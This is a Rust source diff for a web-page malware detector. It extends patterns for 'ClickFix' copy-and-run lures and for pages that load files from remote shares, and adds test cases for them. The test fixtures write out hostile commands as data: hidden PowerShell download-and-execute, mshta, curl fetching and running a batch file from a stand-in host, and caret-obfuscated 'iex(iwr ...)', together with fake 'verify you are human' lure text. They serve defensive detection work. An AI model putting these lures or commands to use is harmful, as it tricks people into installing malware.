@@ -4,7 +4,9 @@ mod pictures;
 mod sign_in;
 mod smuggling;
 
-use super::clipboard::{CLICK_FIX, Code, Lure, command_value, of_a_site, plainly_offered, report, shown_command};
+use super::clipboard::{
+    CLICK_FIX, Code, Lure, command_value, hides, of_a_site, plainly_offered, report, shown_command,
+};
 use crate::text::{cut, decode, normalise, patterns, up_to, without_entities};
 use crate::{DetectError, Detector, Findings};
 use lazaret_model::{Family, Finding, Part, Severity};
@@ -31,9 +33,11 @@ patterns! {
     REMOTE = r"\\\\[a-z0-9]|%5c%5c[a-z0-9]|https?:|https?%3a|file:|davwwwroot|@ssl";
     GOES_TO_SHARE = r#"<meta\b[^<>]*refresh[^<>]*(?:url\s*=|[=\s"'][0-9.]{0,8}\s*[;,])\s*["']?\s*(?:file:/{2,5}[a-z0-9.-]*[a-z0-9][/@:\\]|\\\\[a-z0-9])[^<>]{0,160}|(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*["'](?:file:/{2,5}[a-z0-9.-]+\.[a-z0-9-]{2,}[/@:\\]|\\\\\\?\\?[a-z0-9])[^\r\n]{0,160}"#;
     // Loaded without a click, from a machine that has the name of a site.
-    LOADS_SHARED = r#"<(?:iframe|frame|img|embed|object|link|script|video|audio|source|track|body|table|td|th|tr|input|image|feimage|use|bgsound|v:imagedata|v:fill)\b[^<>]*[\s"'/](?:src|srcset|data|href|xlink:href|background|poster|lowsrc|dynsrc)\s*=\s*["']?\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2}|\\{2})[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)+[@:\\/][^<>]{0,160}"#;
+    LOADS_SHARED = r#"(?:<(?:iframe|frame|img|embed|object|link|script|video|audio|source|track|body|table|td|th|tr|input|image|feimage|use|bgsound|applet|base|xml|v:imagedata|v:fill)\b[^<>]*[\s"'/](?:src|srcset|data|href|xlink:href|background|poster|lowsrc|dynsrc|codebase|classid)|<param\b[^<>]*[\s"'/]value)\s*=\s*["']?\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2}|\\{2})[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)+[@:\\/][^<>]{0,160}"#;
     // The same in a style, in which a backslash is written twice.
     STYLE_SHARED = r#"(?:url\(|@import)\s*["']?\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2,4}|\\{4})[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)+[@:\\/][^<>)]{0,160}"#;
+    // Text that is marked whole by a click or a touch.
+    SELECTS = r#"user-select\s*:\s*all|\.select\s*\(\s*\)|selectallchildren|selectnodecontents|setselectionrange"#;
     SHARE = r#"<meta\b[^<>]*refresh[^<>]*url\s*=\s*["']?\s*file:[^<>]{0,160}|(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*["']file:[^\r\n]{0,160}|<(?:iframe|img|embed|object|link|script)\b[^<>]*(?:src|data|href)\s*=\s*["']?\s*(?:file:/{2,5}[a-z0-9.-]*[a-z][a-z0-9.-]*\.[a-z0-9-]{2,}[/@:\\]|\\\\[a-z0-9])[^<>]{0,160}"#;
 }
 
@@ -176,6 +180,16 @@ fn copies_command(part: &Part, page: &Page, findings: &mut Findings) {
             findings.add(found);
         }
     }
+    // Where no code copies, people are to mark the command themselves: it is made to be marked at once, and says that it is a check.
+    if writes.is_none() && part.size <= MESSAGE && SELECTS.is_match(&page.markup) {
+        let asked = lure.as_ref().filter(|lure| lure.sure && lure.pretext && lure.keys);
+        let command = asked.and_then(|_| shown_command(&page.markup)).filter(|command| hides(command));
+        if let (Some(lure), Some(command)) = (asked, command) {
+            let message = "the page talks people into copying a command, pasting it and running it";
+            let found = finding(CLICK_FIX, Severity::High, message, &command).with("words", cut(&lure.words));
+            findings.add(found.technique("T1204.004"));
+        }
+    }
     if of_a_site(part) {
         let shown = || lure.as_ref().filter(|lure| lure.sure && lure.pretext).and_then(|_| shown_command(&page.markup));
         let command = code.command_value().or_else(|| command_value(&page.tags)).or_else(shown);
@@ -253,6 +267,36 @@ mod tests {
             ),
             (
                 "html",
+                "To verify you are human press Win+R, Ctrl+V <input value='powershell -w hidden -c iwr' onclick='this.select()'>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "To verify you are human press Win+R, Ctrl+V <b style='user-select:all'>mshta https://host.invalid/a</b>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "<img src=a.png><b onclick=\"navigator.clipboard.writeText('curl.exe -o %TEMP%\\\\a.bat https://host.invalid/a & %TEMP%\\\\a.bat')\">x</b>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "<b onclick=\"navigator.clipboard.writeText('net use Z: https://host.invalid/s & Z:\\\\a.exe')\">x</b>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "<b onclick=\"navigator.clipboard.writeText('set a=power&& set b=shell&& call %a%%b% -c x')\">x</b>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "<b onclick=\"navigator.clipboard.writeText('p^ow^er^shell -c iex(iwr host.invalid)')\">x</b>",
+                &[COPIES],
+            ),
+            (
+                "html",
                 "Press Win+R <script>navigator.clipboard.writeText('\\\\\\\\host.invalid\\\\s\\\\a.exe')</script>",
                 &[COPIES],
             ),
@@ -281,6 +325,9 @@ mod tests {
             ("html", "<meta http-equiv=refresh content='0;url=file://host.invalid/s/a'>", &["page.search-ms high"]),
             ("html", "<meta http-equiv=refresh content='0; file://host.invalid/s/a'>", &["page.search-ms high"]),
             ("html", "<img src='file://host.invalid/s/a.png'>", &["page.search-ms high"]),
+            ("html", "<base href='file://host.invalid/s/'><img src='a.png'>", &["page.search-ms high"]),
+            ("html", "<object codebase='\\\\host.invalid\\s'></object>", &["page.search-ms high"]),
+            ("html", "<object><param name=URL value='\\\\host.invalid\\s\\a'></object>", &["page.search-ms high"]),
             ("html", "<img srcset='file:///\\\\host.invalid\\s\\a.png 2x'>", &["page.search-ms high"]),
             ("html", "<body background='\\\\host.invalid\\s\\a.png'>", &["page.search-ms high"]),
             ("html", "<style>p{background:url(file://host.invalid/s/a.png)}</style>", &["page.search-ms high"]),
@@ -321,8 +368,14 @@ mod tests {
             ("html", "<pre>&lt;a onclick=\"navigator.clipboard.writeText('mshta https://host.invalid')\"&gt;</pre>"),
             (
                 "html",
-                "<img src='file:///C:/a.b/c.png'><img src='file:///home/a.b/c.png'><img src='//cdn.invalid/a.png'>",
+                "<base href='https://host.invalid/'><input value='\\\\host.invalid\\s'><img src='file:///C:/a.b/c.png'><img src='file:///home/a.b/c.png'><img src='//cdn.invalid/a.png'>",
             ),
+            // What writes about it has nothing to mark, and what is marked asks for no check.
+            (
+                "html",
+                "<p>They ask you to verify you are human: Win+R, Ctrl+V.</p><pre>mshta https://host.invalid/a</pre>",
+            ),
+            ("html", "<p>Run it:</p><pre style='user-select:all'>curl -o a.zip https://host.invalid/a.zip</pre>"),
             ("html", "<p>@import url(file://host.invalid/s/a.css) is what a style would say</p>"),
             ("svg", "<svg><title>script onload=</title><path d='M0 0'/></svg>"),
             ("xml", "<list><item>search-ms:query=a&amp;crumb=b</item></list>"),
